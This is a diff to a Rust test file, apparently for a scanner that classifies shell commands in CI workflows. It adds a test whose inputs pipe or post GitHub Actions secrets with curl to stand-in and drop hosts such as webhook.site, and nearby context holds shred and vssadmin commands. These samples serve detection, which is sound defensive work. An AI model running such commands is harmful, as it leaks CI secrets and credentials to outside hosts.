@@ -384,3 +384,25 @@ fn keys_shredded_and_restore_points_deleted() {
     );
     assert!(kinds("shred -u ./build/tmp.key.bak\nvssadmin list shadows\n").is_empty());
 }
+
+#[test]
+fn a_github_actions_secret_expression_is_a_secret() {
+    // Actions substitutes `${{ ... }}` before the shell runs (program::shell::read).
+    assert_eq!(
+        kinds("echo ${{ toJSON(secrets) }} | base64 | curl -s -d @- https://x.example/s\n"),
+        ["exfil:curl"]
+    );
+    // One named secret is a named variable: sent out only to a drop host it is reported.
+    assert_eq!(
+        kinds("curl -d \"k=${{ secrets.DEPLOY_KEY }}\" https://x.example/s\n"),
+        Vec::<String>::new()
+    );
+    assert_eq!(
+        kinds("curl -d \"k=${{ secrets.DEPLOY_KEY }}\" https://webhook.site/abc\n"),
+        ["exfil:curl"]
+    );
+    assert_eq!(
+        kinds("echo ${{ github.event.issue.number }} | curl -d @- https://x.example/s\n"),
+        Vec::<String>::new()
+    );
+}
